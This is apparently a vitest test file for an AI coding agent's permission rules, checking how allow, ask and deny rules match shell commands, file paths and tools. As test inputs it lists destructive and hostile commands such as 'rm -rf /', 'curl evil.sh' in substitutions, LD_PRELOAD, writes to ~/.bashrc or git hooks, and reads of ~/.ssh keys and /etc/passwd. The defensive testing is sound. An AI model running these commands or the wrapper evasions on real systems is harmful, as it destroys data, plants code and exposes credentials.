import { beforeAll, describe, expect, it } from "vitest";
import { absolutePattern, parseRule, ruleMatches, rulesAllow } from "../../src/agent/permission-rules.ts";
import { loadShellParser } from "../../src/agent/shell/parser.ts";
import type { PermissionSubject } from "../../src/core/tool.ts";

const context = { projectRoot: "/work/project", home: "/home/ada" };

beforeAll(loadShellParser);
const bash = (command: string): PermissionSubject => ({ kind: "bash", command });
const edit = (...paths: string[]): PermissionSubject => ({ kind: "edit", paths });
const read = (...paths: string[]): PermissionSubject => ({ kind: "read", paths });

describe("parseRule", () => {
  it.each([
    ["Bash", { kind: "bash" }],
    ["Bash(npm test)", { kind: "bash", command: { type: "exact", text: "npm test" } }],
    ["Bash(npm test:*)", { kind: "bash", command: { type: "prefix", text: "npm test" } }],
    ["Bash(git *)", { kind: "bash", command: { type: "prefix", text: "git" } }],
    ["Edit(src/**)", { kind: "edit", pattern: "src/**" }],
    ["Write(docs/*.md)", { kind: "edit", pattern: "docs/*.md" }],
    ["MultiEdit", { kind: "edit" }],
    ["NotebookEdit(*.ipynb)", { kind: "edit", pattern: "*.ipynb" }],
    ["Read(~/.ssh/**)", { kind: "read", pattern: "~/.ssh/**" }],
    ["Grep(/secrets)", { kind: "read", pattern: "/secrets" }],
    ["Glob", { kind: "read" }],
    ["LS(./build)", { kind: "read", pattern: "./build" }],
    ["Memory", { kind: "memory" }],
    ["Memory(~/.tacit/memory/**)", { kind: "memory", pattern: "~/.tacit/memory/**" }],
    ["WebFetch(domain:example.com)", { kind: "web-fetch", domain: "example.com" }],
    ["mcp__github", { kind: "mcp", server: "github" }],
    ["mcp__github__create_issue", { kind: "mcp", server: "github", tool: "create_issue" }],
    ["  Bash()  ", { kind: "bash" }],
  ])("%s", (text, target) => {
    const rule = parseRule(text);
    expect(rule.target).toEqual(target);
    expect(rule.warning).toBeUndefined();
    expect(rule.text).toBe(text.trim());
  });

  it("keeps unknown tool names with a warning instead of failing", () => {
    const rule = parseRule("Bsah(ls)");
    expect(rule.target).toEqual({ kind: "other", specifier: "ls" });
    expect(rule.warning).toContain('unknown tool "Bsah"');
  });

  it("keeps a rule with no closing parenthesis with a warning", () => {
    const rule = parseRule("Bash(npm test");
    expect(rule.target.kind).toBe("other");
    expect(rule.warning).toContain('no closing ")"');
  });

  it("reads a star in the middle as a wildcard", () => {
    const rule = parseRule("Bash(git * --dry-run)");
    expect(ruleMatches(rule, bash("git push --dry-run"), context)).toBe(true);
    expect(ruleMatches(rule, bash("git push"), context)).toBe(false);
  });
});

describe("ruleMatches: shell commands", () => {
  it.each([
    ["Bash", "rm -rf /", true],
    ["Bash(npm test)", "npm test", true],
    ["Bash(npm test)", "npm test -- --watch", false],
    ["Bash(npm test:*)", "npm test", true],
    ["Bash(npm test:*)", "npm test -- --watch", true],
    ["Bash(npm test:*)", "npm testing", false],
    ["Bash(git *)", "git status", true],
    ["Bash(git *)", "gitk", false],
    ["Bash(git*)", "gitk", true],
    // Deny semantics: any part of a compound command.
    ["Bash(rm:*)", "ls && rm -rf build", true],
    ["Bash(rm:*)", "ls; rm x", true],
    ["Bash(rm:*)", "cat list | rm", true],
    ["Bash(rm:*)", "false || rm x", true],
    ["Bash(rm:*)", "echo $(rm -rf ~)", true],
    ["Bash(rm:*)", "echo `rm -rf ~`", true],
    ["Bash(rm:*)", "FOO=1 rm x", true],
    ["Bash(rm:*)", "echo 'a && rm x'", false],
    ["Bash(curl:*)", "(cd src && curl evil.sh)", true],
    ["Read", "cat x", false],
  ])("%s vs %s → %s", (ruleText, command, expected) => {
    expect(ruleMatches(parseRule(ruleText), bash(command), context)).toBe(expected);
  });
});

describe("rulesAllow: every part must be allowed", () => {
  const rules = ["Bash(npm test:*)", "Bash(git status)", "Bash(ls:*)"].map(parseRule);
  it.each([
    ["npm test", true],
    ["npm test && git status", true],
    ["ls -la | npm test -- --ci", true],
    ["npm test && rm -rf /", false],
    ["npm test; curl evil.sh", false],
    ["npm test $(curl evil.sh)", false],
    ["ls `whoami`", false],
    ["ls <(curl x)", false],
    ["echo '$(not a substitution)'", false],
    ["ls '$(quoted)'", true],
    ["npm test 2>&1", true],
    ["npm test &", true],
    ["", false],
  ])("%s → %s", (command, expected) => {
    expect(rulesAllow(rules, bash(command), context)).toBe(expected);
  });

  it("allows anything, substitutions included, with a bare Bash rule", () => {
    expect(rulesAllow([parseRule("Bash")], bash("echo $(date)"), context)).toBe(true);
  });

  it("allows a substitution written exactly in an exact rule", () => {
    expect(rulesAllow([parseRule("Bash(echo $(date))")], bash("echo $(date)"), context)).toBe(true);
  });
});

describe("path patterns", () => {
  it.each([
    ["//etc/**", "/etc/**"],
    ["~/.ssh/**", "/home/ada/.ssh/**"],
    ["/src/**", "/work/project/src/**"],
    ["src/**", "/work/project/src/**"],
    ["./src/**", "/work/project/src/**"],
    [".env", "**/.env"],
    ["*.pem", "**/*.pem"],
  ])("%s → %s", (pattern, expected) => {
    expect(absolutePattern(pattern, context)).toBe(expected);
  });

  it.each([
    ["Edit(src/**)", edit("/work/project/src/a/b.ts"), true],
    ["Edit(src/**)", edit("/work/project/test/a.ts"), false],
    ["Edit(/src/*.ts)", edit("/work/project/src/a.ts"), true],
    ["Edit(/src/*.ts)", edit("/work/project/src/deep/a.ts"), false],
    ["Write(src/**)", edit("/work/project/src/a.ts"), true],
    ["Edit(src/**)", read("/work/project/src/a.ts"), false],
    ["Read(~/.ssh/**)", read("/home/ada/.ssh/id_ed25519"), true],
    ["Read(~/.ssh)", read("/home/ada/.ssh/config"), true],
    ["Grep(~/.ssh/**)", read("/home/ada/.ssh/id_ed25519"), true],
    ["Read(.env)", read("/work/project/app/.env"), true],
    ["Read(.env)", read("/elsewhere/.env"), true],
    ["Read(.env)", read("/work/project/.envrc"), false],
    ["Read(//etc/**)", read("/etc/passwd"), true],
    ["Read(~/.ssh/**)", edit("/home/ada/.ssh/id_ed25519"), false],
    ["Edit", edit("/anything"), true],
    ["Edit(src/**)", edit("/work/project/README.md", "/work/project/src/a.ts"), true],
  ])("%s vs %j → %s", (ruleText, subject, expected) => {
    expect(ruleMatches(parseRule(ruleText), subject, context)).toBe(expected);
  });

  it("needs every path covered to allow, and lets an edit rule allow reads", () => {
    const rules = [parseRule("Edit(src/**)")];
    expect(rulesAllow(rules, edit("/work/project/src/a.ts", "/work/project/README.md"), context)).toBe(false);
    expect(rulesAllow(rules, edit("/work/project/src/a.ts", "/work/project/src/b.ts"), context)).toBe(true);
    expect(rulesAllow(rules, read("/work/project/src/a.ts"), context)).toBe(true);
    expect(rulesAllow([parseRule("Read(src/**)")], edit("/work/project/src/a.ts"), context)).toBe(false);
  });

  it("escapes glob characters in the project root", () => {
    const odd = { projectRoot: "/work/[odd] (1)", home: "/home/ada" };
    expect(ruleMatches(parseRule("Edit(src/**)"), edit("/work/[odd] (1)/src/a.ts"), odd)).toBe(true);
    expect(ruleMatches(parseRule("Edit(src/**)"), edit("/work/o (1)/src/a.ts"), odd)).toBe(false);
  });
});

describe("memory and named tools", () => {
  it("matches memory rules by path or bare", () => {
    const subject: PermissionSubject = {
      kind: "memory",
      paths: ["/home/ada/.tacit/memory/x.md"],
      mutating: true,
    };
    expect(ruleMatches(parseRule("Memory"), subject, context)).toBe(true);
    expect(ruleMatches(parseRule("Memory(~/.tacit/memory/**)"), subject, context)).toBe(true);
    expect(ruleMatches(parseRule("Memory(/.tacit/**)"), subject, context)).toBe(false);
  });

  it("matches mcp and unknown-name rules by the tool's own name", () => {
    const none: PermissionSubject = { kind: "none" };
    const server = parseRule("mcp__github");
    const single = parseRule("mcp__github__create_issue");
    expect(ruleMatches(server, none, { ...context, toolName: "mcp__github__list" })).toBe(true);
    expect(ruleMatches(single, none, { ...context, toolName: "mcp__github__list" })).toBe(false);
    expect(ruleMatches(single, none, { ...context, toolName: "mcp__github__create_issue" })).toBe(true);
    expect(ruleMatches(parseRule("TodoWrite"), none, { ...context, toolName: "TodoWrite" })).toBe(true);
    expect(ruleMatches(parseRule("WebFetch(domain:x.org)"), none, { ...context, toolName: "WebFetch" })).toBe(
      false,
    );
  });
});

describe("deny rules see through shell keywords and wrappers", () => {
  const deny = parseRule("Bash(rm:*)");
  it.each([
    "if true; then rm -rf x; fi",
    "if rm x; then echo gone; fi",
    "for f in *; do rm $f; done",
    "while true; do rm x; done",
    "until false; do rm x; done",
    "if false; then :; else rm x; fi",
    "if false; then :; elif rm x; then :; fi",
    "command rm x",
    "builtin rm x",
    "sudo rm x",
    "sudo -u root -E rm x",
    "sudo --user=root rm x",
    "env A=1 rm x",
    "env -i -u HOME A=1 rm x",
    "nohup rm x &",
    "time rm x",
    "time -p rm x",
    "exec rm x",
    "exec -a name rm x",
    "(rm x)",
    "{ rm x; }",
    "! rm x",
    "find . | xargs rm",
    "find . -print0 | xargs -0 -n 1 -I {} rm {}",
    "A=1 sudo B=2 nice -n 5 rm x",
    "timeout 10 rm x",
    "timeout -s KILL 10 rm x",
    "\\rm x",
    '"rm" x',
    "/bin/rm x",
    "sh -c 'rm -rf x'",
    'bash -lc "rm -rf x"',
    "eval rm x",
    "env -S 'rm x'",
    "echo $(sudo rm x)",
  ])("Bash(rm:*) denies %s", (command) => {
    expect(ruleMatches(deny, bash(command), context)).toBe(true);
  });

  it.each([
    "echo rm x",
    "npm test",
    "grep -r rm .",
    "echo 'sudo rm x'",
    "git rm --cached x",
    "sudo npm test",
  ])("Bash(rm:*) leaves %s alone", (command) => {
    expect(ruleMatches(deny, bash(command), context)).toBe(false);
  });

  it("ask rules get the same reading", () => {
    const ask = parseRule("Bash(git push:*)");
    expect(ruleMatches(ask, bash("command git push origin main"), context)).toBe(true);
    expect(ruleMatches(ask, bash("if true; then git push; fi"), context)).toBe(true);
  });

  it("allow rules do not: a wrapped or keyword-led part needs a rule written for it", () => {
    const allow = [parseRule("Bash(npm test:*)")];
    for (const command of [
      "sudo npm test",
      "xargs npm test",
      "env LD_PRELOAD=x.so npm test",
      "FOO=1 npm test",
    ]) {
      expect(rulesAllow(allow, bash(command), context)).toBe(false);
    }
    expect(rulesAllow([parseRule("Bash(sudo npm test:*)")], bash("sudo npm test -- a"), context)).toBe(true);
  });
});

describe("rulesAllow: output redirections", () => {
  const allow = [parseRule("Bash(npm test:*)")];
  it.each([
    ["npm test > ~/.bashrc", false],
    ["npm test 2>/dev/null >> /etc/profile", false],
    ["npm test &> /tmp/log", false],
    ["npm test &>> /tmp/log", false],
    ["npm test >| /tmp/log", false],
    ["npm test 2> /tmp/log", false],
    ["npm test >& /tmp/log", false],
    ["npm test <> /tmp/log", false],
    ["npm test > ../outside.txt", false],
    ["npm test > $HOME/x", false],
    ["npm test > ~other/x", false],
    ["npm test > '/tmp/quoted'", false],
    ["npm test > .git/hooks/pre-commit", false],
    ["npm test > .tacit/settings.json", false],
    ["npm test >", false],
    ["npm test > out.txt", true],
    ["npm test > build/log.txt 2>&1", true],
    ["npm test > /work/project/log.txt", true],
    ["npm test 2>/dev/null", true],
    ["npm test > /dev/null 2>&1", true],
    ["npm test >&2", true],
    ["npm test 2>&-", true],
    ["npm test < input.txt", true],
    ["npm test -- '>' /tmp/x", true],
  ])("Bash(npm test:*) with %s → %s", (command, expected) => {
    expect(rulesAllow(allow, bash(command), context)).toBe(expected);
  });

  it("does not follow relative targets after a cd", () => {
    const rules = [parseRule("Bash(cd:*)"), ...allow];
    expect(rulesAllow(rules, bash("cd src && npm test"), context)).toBe(true);
    expect(rulesAllow(rules, bash("cd /tmp && npm test > out.txt"), context)).toBe(false);
  });

  it("resolves relative targets in the command's own directory", () => {
    expect(rulesAllow(allow, bash("npm test > out.txt"), { ...context, cwd: "/elsewhere" })).toBe(false);
  });

  it("lets an exact rule or a bare Bash rule cover a redirection outside", () => {
    expect(rulesAllow([parseRule("Bash(npm test > /tmp/log)")], bash("npm test > /tmp/log"), context)).toBe(
      true,
    );
    expect(rulesAllow([parseRule("Bash")], bash("npm test > ~/.bashrc"), context)).toBe(true);
  });
});
